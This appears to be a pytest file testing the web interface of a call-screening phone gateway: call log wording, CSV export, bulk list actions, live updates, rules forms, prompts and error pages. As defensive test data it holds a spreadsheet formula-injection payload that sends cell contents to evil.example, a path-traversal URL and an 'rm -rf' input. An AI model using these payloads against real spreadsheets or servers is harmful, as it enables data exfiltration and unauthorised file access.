"""Issue 13, items 5-10, through Flask's test client: what happened to each call, search,
CSV export, several rows at once, live updates, the dashboard, the rules page's pickers, the
prompts, error pages and burst profiles, in English and in French."""

from __future__ import annotations

import csv
import html
import io
import re
from datetime import timedelta

import pytest
import time_machine
from flask import Flask
from flask.testing import FlaskClient

from gateway.config import Settings
from gateway.prompts import PACKAGED_DIR
from gateway.store.csv_cells import FORMULA_START, restore
from gateway.store.models import utcnow
from tests.helpers import Services
from tests.web.support import NOW, log_call, login, make_app, post, save_voicemail
from web.voicemail import known_prompt_names

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def text(response: object) -> str:
    return html.unescape(response.get_data(as_text=True))  # type: ignore[attr-defined]


def french(client: FlaskClient) -> FlaskClient:
    post(client, "/language", {"lang": "fr", "next": "/"})
    return client


def logged(service: Services, number: str, **options: object) -> int:
    """Log a call as the gateway does; return its row id (the writer is synchronous here)."""
    log_call(service, number, **options)  # type: ignore[arg-type]
    return service.store.calls.last_id()


def ended(service: Services, number: str, outcome: str, seconds: float, *,
          action: str = "pass", minutes: int = 1, name: str = "") -> int:
    uid = log_call(service, number, action=action, name=name,
                   at=utcnow() - timedelta(minutes=minutes))
    service.book.finish_call(uid, duration_s=seconds, outcome=outcome)  # type: ignore[arg-type]
    return service.store.calls.last_id()


# ---------------------------------------------------------------------------- item 5


def test_the_call_log_says_what_happened(client: FlaskClient, service: Services) -> None:
    ended(service, "0612345678", "passed: cancelled by caller", 2.0)
    ended(service, "0698765432", "caller hung up during the greeting", 4.0, action="voicemail")
    ended(service, "0611111111", "voicemail 12 s", 19.0, action="voicemail")
    ended(service, "0622222222", "answered elsewhere", 30.0)
    log_call(service, "0633333333", at=utcnow())  # still ringing
    page = text(client.get("/calls"))
    # Was "rang through" and "sent to voicemail" for all of these.
    assert "rang 2 s, nobody answered" in page
    assert "hung up during the greeting" in page
    assert "left a 12 s message" in page
    assert "answered on another phone" in page
    assert "in progress" in page
    french(client)
    page = text(client.get("/calls"))
    assert "a sonné 2 s, personne n'a décroché" in page
    assert "a laissé un message de 12 s" in page


def test_each_row_says_whether_the_number_is_on_a_list_now(client: FlaskClient,
                                                           service: Services) -> None:
    log_call(service, "0612345678")
    log_call(service, "0162000000")
    log_call(service, "0698765432")
    service.store.entries.add("block", "0612345678")
    service.store.entries.add("block", "0162*")
    service.store.entries.add("allow", "0698765432")
    rows = {m[0]: m[1] for m in re.findall(
        r'<li class="row" id="call-\d+".*?<strong>([^<]+)</strong>(.*?)</li>',
        client.get("/calls").get_data(as_text=True), re.S)}
    assert "on the block list now" in rows["06 12 34 56 78"]
    assert ">Block<" not in rows["06 12 34 56 78"]  # already blocked: only Allow is offered
    assert "on the block list now (+33162…)" in text_of(rows["01 62 00 00 00"])
    assert "on the allow list now" in rows["06 98 76 54 32"]


def text_of(fragment: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", fragment))


@pytest.mark.parametrize("typed", ["0612", "06 12", "+33612", "06.12"])
def test_search_the_log_by_a_partial_number_in_any_form(client: FlaskClient, service: Services,
                                                        typed: str) -> None:
    log_call(service, "0612345678", name="Jean Dupont")
    log_call(service, "0698765432")
    for arg in ("q", "number"):  # `number` keeps working, partial now too
        page = text(client.get("/calls", query_string={arg: typed}))
        assert "not a phone number" not in page  # was: "0612 is not a phone number"
        assert "1 call<" in page and "06 12 34 56 78" in page and "06 98 76 54 32" not in page


def test_search_the_log_by_name_and_the_lists_by_any_form(client: FlaskClient,
                                                          service: Services) -> None:
    log_call(service, "0612345678", name="Jean Dupont")
    log_call(service, "0698765432", name="Marc")
    page = text(client.get("/calls?q=dupont"))
    assert "1 call<" in page and "Jean Dupont" in page
    service.store.entries.add("block", "0612345678", label="Plombier")
    for typed in ("0612345678", "06 12 34 56 78", "0612", "plombier"):
        page = text(client.get("/lists/block", query_string={"q": typed}))
        assert "1 entry<" in page, typed  # was "0 entries" for 0612345678


def test_the_call_log_exports_as_csv_with_its_filters_and_inert_names(
        client: FlaskClient, service: Services) -> None:
    ended(service, "0612345678", "voicemail 12 s", 19.0, action="voicemail", name=HOSTILE)
    log_call(service, "0698765432", action="reject:603")
    response = client.get("/calls/export.csv?q=0612")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert rows[0][:6] == ["time", "number", "name", "caller_kind", "action", "what_happened"]
    assert len(rows) == 2
    assert restore(rows[1][1]) == "+33612345678" and rows[1][5] == "left a 12 s message"
    assert rows[1][2] == "'" + HOSTILE  # a spreadsheet shows it as text, never runs it
    assert all(cell[:1] not in FORMULA_START for row in rows for cell in row)
    french(client)
    rows = list(csv.reader(io.StringIO(text(client.get("/calls/export.csv")))))
    assert len(rows) == 3 and "a laissé un message de 12 s" in {r[5] for r in rows}


def test_block_several_rows_at_once_through_a_confirmation(client: FlaskClient,
                                                           service: Services) -> None:
    for number in ("0612345678", "0698765432", "0611111111"):
        log_call(service, number)
    service.store.entries.add("allow", "0698765432", label="Marc")
    page = text(post(client, "/calls/bulk", {"list": "block", "back": "/calls",
                                             "number": ["+33612345678", "+33698765432"]}))
    assert "Block 2 numbers?" in page and "(moves from the allow list)" in page
    assert service.store.entries.count("block") == 0  # nothing before the confirmation
    response = post(client, "/lists/confirm-many", {
        "list": "block", "back": "/calls", "number": ["+33612345678", "+33698765432"]})
    assert response.status_code == 302 and response.headers["Location"] == "/calls"
    assert {e.pattern for e in service.store.entries.find("block")} == {"+33612345678",
                                                                          "+33698765432"}
    assert service.store.entries.count("allow") == 0
    assert "2 numbers added to the block list." in text(client.get("/calls"))
    nothing = post(client, "/calls/bulk", {"list": "allow", "back": "/calls"})
    assert nothing.status_code == 302
    assert "Tick at least one call first." in text(client.get("/calls"))


def test_remove_or_move_several_list_entries_at_once(client: FlaskClient,
                                                     service: Services) -> None:
    ids = [service.store.entries.add("block", n, label="spam").id
           for n in ("0612345678", "0698765432")]
    prefix = service.store.entries.add("block", "0162*").id
    post(client, "/lists/block/bulk", {"do": "move", "entry": [str(ids[0]), str(prefix)]})
    assert {e.pattern for e in service.store.entries.find("allow")} == {"+33612345678"}
    assert service.store.entries.find("allow")[0].label == "spam"
    page = text(client.get("/lists/block"))
    assert "1 number moved to the allow list." in page and "prefixes and patterns stayed" in page
    post(client, "/lists/block/bulk", {"do": "remove", "entry": [str(ids[1]), str(prefix)]})
    assert service.store.entries.count("block") == 0
    assert "2 entries removed from the block list." in text(client.get("/lists/block"))


# ---------------------------------------------------------------------------- item 6


def test_the_call_log_polls_cheaply_and_gets_new_and_ended_calls(client: FlaskClient,
                                                                 service: Services) -> None:
    uid = log_call(service, "0612345678", at=utcnow() - timedelta(seconds=30))
    old = service.store.calls.last_id()
    first = client.get(f"/calls/live?after={old}&open={old}")
    assert first.status_code == 200 and first.headers["ETag"]
    data = first.get_json()
    assert data["rows"] == [] and data["updated"] == {}
    etag = first.headers["ETag"]
    idle = client.get(f"/calls/live?after={old}&open={old}", headers={"If-None-Match": etag})
    assert idle.status_code == 304 and idle.get_data() == b""
    service.book.finish_call(uid, duration_s=2.0, outcome="passed: cancelled by caller")  # type: ignore[arg-type]
    new = logged(service, "0698765432", name="<b>Eve</b>", at=utcnow())
    data = client.get(f"/calls/live?after={old}&open={old}",
                      headers={"If-None-Match": etag}).get_json()
    assert data["after"] == new and data["fresh"] == 1
    [row] = data["rows"]
    assert f'id="call-{new}"' in row and "new call" in row and "fresh" in row
    assert "&lt;b&gt;Eve&lt;/b&gt;" in row  # a stranger's name stays text
    assert "rang 2 s, nobody answered" in html.unescape(data["updated"][str(old)])
    assert data["count"] == "2 calls" and data["announce"] == "1 new call"
    filtered = client.get(f"/calls/live?after={old}&q=0612").get_json()
    assert filtered["rows"] == []  # the page's search applies to new calls too


def test_the_calls_page_and_the_dashboard_carry_their_live_urls(client: FlaskClient,
                                                                service: Services) -> None:
    last = logged(service, "0612345678")
    page = client.get("/calls?q=06").get_data(as_text=True)
    assert f'data-live="/calls/live?q=06" data-after="{last}"' in page
    for n in range(60):
        log_call(service, f"06980000{n:02d}")
    assert "data-live" not in client.get("/calls?page=2").get_data(as_text=True)
    last = service.store.calls.last_id()
    assert f'data-live="/live/dashboard" data-after="{last}"' in client.get("/").get_data(
        as_text=True)
    new = logged(service, "0698765432", at=utcnow())
    data = client.get(f"/live/dashboard?after={last}").get_json()
    assert data["fresh"] == 1 and f'id="call-{new}"' in data["parts"]["latest"]
    assert "new call" in data["parts"]["latest"]
    assert "messages left" in data["parts"]["counts"]


# ---------------------------------------------------------------------------- item 7


@pytest.mark.clock
def test_the_dashboard_counts_messages_apart_from_calls_sent_to_voicemail(
        app: Flask, settings: Settings, service: Services) -> None:
    # "Today" starts at midnight in Paris: pinned, so minutes ago is still today.
    with time_machine.travel(NOW, tick=False), app.test_client() as client:
        login(client, service)
        for i in range(7):
            ended(service, f"061111111{i}", "caller hung up during the greeting", 3.0,
                  action="voicemail", minutes=5 + i)
        save_voicemail(service, settings, "+33611111110", seconds=12, at=utcnow())
        page = client.get("/").get_data(as_text=True)
    today = page[page.index('id="counts-today"'):page.index('id="counts-week"')]
    assert "<dt>sent to voicemail</dt><dd>7</dd>" in today  # was "voicemail 7"
    assert "<dt>messages left</dt><dd>1</dd>" in today


def test_the_lines_card_in_direct_mode_says_where_and_whether_it_runs(
        client: FlaskClient, settings: Settings, service: Services) -> None:
    page = text(client.get("/"))
    assert "No line has reported its state yet" not in page  # was shown in direct mode
    assert f"Direct mode: it will listen on {settings.gateway.listen}." in page
    instance = service.store.status.started(mode="direct", listening=["127.0.0.1:5062"],
                                            version="0.1.0", at=utcnow())
    page = text(client.get("/"))
    assert "Gateway running" in page and "Direct mode, listening on 127.0.0.1:5062" in page
    service.store.status.stopped(instance, utcnow())
    assert "Gateway stopped" in text(client.get("/"))
    french(client)
    page = text(client.get("/"))
    assert "Passerelle arrêtée" in page and "Mode direct, à l'écoute sur 127.0.0.1:5062" in page


def test_the_dashboard_pauses_and_resumes_in_one_click(client: FlaskClient,
                                                       service: Services) -> None:
    response = post(client, "/pause", {"amount": "30", "unit": "minutes", "back": "/"})
    assert response.status_code == 302 and response.headers["Location"] == "/"
    assert service.store.runtime.get("paused_until")
    page = text(client.get("/"))
    assert "Screening paused until" in page and 'id="resume-button"' in page
    post(client, "/pause", {"resume": "1", "back": "/"})
    assert service.store.runtime.get("paused_until") is None
    assert 'id="pause-button"' in text(client.get("/"))


def test_top_callers_and_most_blocked_of_the_week(client: FlaskClient,
                                                  service: Services) -> None:
    for minutes in range(3):
        log_call(service, "0612345678", name="Jean", at=utcnow() - timedelta(minutes=minutes))
    log_call(service, "0162000000", action="reject:603", at=utcnow())
    page = text(client.get("/"))
    callers = page[page.index('id="top-callers"'):page.index('id="top-blocked"')]
    assert "06 12 34 56 78" in callers and "Jean" in callers and ">3<" in callers
    blocked = page[page.index('id="top-blocked"'):]
    assert "01 62 00 00 00" in blocked.split("</ol>")[0]


# ---------------------------------------------------------------------------- item 8


def test_the_rules_page_offers_pickers_with_human_words(client: FlaskClient) -> None:
    page = text(client.get("/rules"))
    assert 'name="action" value=' not in page  # no free-text action any more
    assert re.search(r'<select id="r\d+-action" name="action"', page)
    assert "refuse with 486 Busy Here: the line is busy" in page
    assert "refuse with 603 Decline: the call is declined; your other phones stop ringing" in page
    assert "premium rate" in page and "PREMIUM_RATE, " not in page
    assert 'value="PREMIUM_RATE" checked' in page  # the default rule's types, ticked
    assert "Wednesday" in page  # days by name
    french(client)
    page = text(client.get("/rules"))
    assert "refuser avec 486" in page and "mercredi" in page


def test_the_rules_page_is_folded(client: FlaskClient) -> None:
    page = client.get("/rules").get_data(as_text=True)
    assert page.count('<details class="card rule') >= 7
    assert "<details class=\"card rule\" id=\"rule-1\" open" not in page


def test_every_error_of_a_form_at_once_next_to_its_field(client: FlaskClient,
                                                         service: Services) -> None:
    rid = next(r.id for r in service.store.rules.all() if r.kind.value == "quiet_hours")
    response = post(client, f"/rules/{rid}", {"action": "dance", "priority": "-1",
                                              "params.start": "25:00", "params.end": "7"})
    page = text(response)
    assert response.status_code == 400 and f'id="rule-{rid}" open' in page
    for field, message in (("action", "choose an action from the list"),
                           ("priority", "expected at least 0"),
                           ("params.start", "expected a time of day such as 22:00, not 25:00"),
                           ("params.end", "expected a time of day such as 22:00, not 7"),
                           ("params.days", "tick at least one day")):
        assert f'id="e-{field}">{message}' in page
    form = {"default_mode": "pass", "block_action": "reject:603", "challenge_digit": "5",
            "repeat.enabled": "1", "repeat.max_calls": "x", "repeat.window_minutes": "10",
            "repeat.action": "voicemail", "burst.enabled": "1", "burst.distinct_callers": "0",
            "burst.window_minutes": "10", "burst.duration_minutes": "60",
            "burst.action": "voicemail:spoof_shield", "greylist.min_minutes": "0,5",
            "greylist.window_minutes": "30", "greylist.action": "reject:486"}
    page = text(post(client, "/settings", form))
    # Was one at a time: "burst.distinct_callers = 0: expected at least 1".
    assert 'id="e-repeat.max_calls">expected a whole number, not x' in page
    assert 'id="e-burst.distinct_callers">expected at least 1' in page
    assert "burst.distinct_callers =" not in page
    assert 'id="e-greylist.min_minutes"' not in page  # "0,5" is a number too, the French way
    assert service.store.runtime.get("repeat")["max_calls"] == 3  # nothing half-saved
    french(client)
    page = text(post(client, "/settings", form))
    assert 'id="e-repeat.max_calls">un nombre entier est attendu, pas x' in page


def test_rule_forms_take_ticked_boxes(client: FlaskClient, service: Services) -> None:
    rid = next(r.id for r in service.store.rules.all() if r.kind.value == "number_type")
    response = post(client, f"/rules/{rid}", {"enabled": "1", "action": "reject:486",
                                              "priority": "40",
                                              "params.types": ["PREMIUM_RATE", "TOLL_FREE"]})
    assert response.status_code == 302
    rule = next(r for r in service.store.rules.all() if r.id == rid)
    assert rule.params["types"] == ["PREMIUM_RATE", "TOLL_FREE"] and str(rule.action) == \
        "reject:486"


def test_the_stir_rule_offers_attestations_and_checks_its_seconds(
        client: FlaskClient, service: Services) -> None:
    """Issue 14 item 4: the STIR/SHAKEN rule's form, in words, every bad field named."""
    rid = next(r.id for r in service.store.rules.all() if r.kind.value == "stir_attestation")
    page = text(client.get("/rules"))
    assert "C: the network only knows where the call came in" in page
    assert "signed too long ago (replayed)" in page
    form = {"enabled": "1", "action": "challenge", "priority": "35",
            "params.attest": ["B", "C"], "params.stale": "1", "params.max_age": "90"}
    assert post(client, f"/rules/{rid}", form).status_code == 302
    rule = next(r for r in service.store.rules.all() if r.id == rid)
    assert rule.params == {"attest": ["B", "C"], "mismatch": False, "stale": True,
                           "max_age": 90}
    page = text(post(client, f"/rules/{rid}", {**form, "params.max_age": "5"}))
    assert 'id="e-params.max_age">expected 10 to 3600 seconds, not 5' in page
    french(client)
    assert "C : le réseau sait seulement par où l'appel est entré" in text(client.get("/rules"))


# ---------------------------------------------------------------------------- item 9


def test_the_prompts_page_has_a_menu_entry_labels_and_built_in_players(
        client: FlaskClient) -> None:
    page = client.get("/prompts").get_data(as_text=True)
    menu = page.split("<main>")[0]
    assert 'href="/prompts" aria-current="page"' in menu
    for name in known_prompt_names():
        label = re.search(rf'id="prompt-{name}"><div class="who"><strong>([^<]+)</strong>', page)
        assert label and label[1] != name, name  # every prompt has words, challenge_5 too
    assert "challenge asking for the key 5" in page
    if (PACKAGED_DIR / "fr" / "greeting.wav").is_file():
        assert '/prompts/fr/greeting/built-in.wav' in page
        audio = client.get("/prompts/fr/greeting/built-in.wav")
        assert audio.status_code == 200 and audio.mimetype == "audio/wav"
    assert client.get("/prompts/fr/..%2f..%2fsecret/built-in.wav").status_code == 404


def test_404_has_the_ui_s_look_language_and_menu(client: FlaskClient) -> None:
    response = client.get("/no/such/page")
    page = text(response)
    assert response.status_code == 404 and 'class="menu"' in page and "Page not found" in page
    french(client)
    page = text(client.get("/no/such/page"))
    assert "Page introuvable" in page and 'lang="fr"' in page
    assert client.get("/api/nothing", headers={"Authorization": "Bearer x"}).is_json


def test_500_has_the_ui_s_look_and_is_logged(settings: Settings, service: Services,
                                             caplog: pytest.LogCaptureFixture) -> None:
    app: Flask = make_app(settings, service)
    app.config["PROPAGATE_EXCEPTIONS"] = False

    @app.route("/boom")
    def boom() -> str:
        raise RuntimeError("the disk caught fire")

    with app.test_client() as client:
        login(client, service)
        french(client)
        response = client.get("/boom")
    page = text(response)
    assert response.status_code == 500 and 'class="menu"' in page
    assert "Un problème est survenu" in page and "the disk caught fire" not in page
    assert "the disk caught fire" in caplog.text


def test_dark_mode_and_the_folded_phone_menu_need_no_script(client: FlaskClient) -> None:
    css = client.get("/static/style.css").get_data(as_text=True)
    assert "@media (prefers-color-scheme: dark)" in css
    page = client.get("/").get_data(as_text=True)
    assert '<input type="checkbox" id="nav-toggle"' in page and 'for="nav-toggle"' in page
    assert "<script>" not in page and "style=" not in page  # the CSP allows neither


# ---------------------------------------------------------------------------- item 10


def test_burst_profiles_in_one_click(client: FlaskClient, service: Services) -> None:
    page = text(client.get("/"))
    assert 'id="profile-spoofed" class="profile chosen"' in page
    response = post(client, "/burst/profile", {"profile": "published"})
    assert response.status_code == 302
    assert service.store.runtime.get("burst")["action"] == "challenge:published"
    assert service.store.runtime.get("burst")["distinct_callers"] == 5  # the rest unchanged
    page = text(client.get("/"))
    assert 'id="profile-published" class="profile chosen"' in page
    assert "Burst mode will now do this" in page
    post(client, "/burst/profile", {"profile": "rm -rf"})
    assert service.store.runtime.get("burst")["action"] == "challenge:published"
    french(client)
    assert "Mon numéro a été publié" in text(client.get("/"))
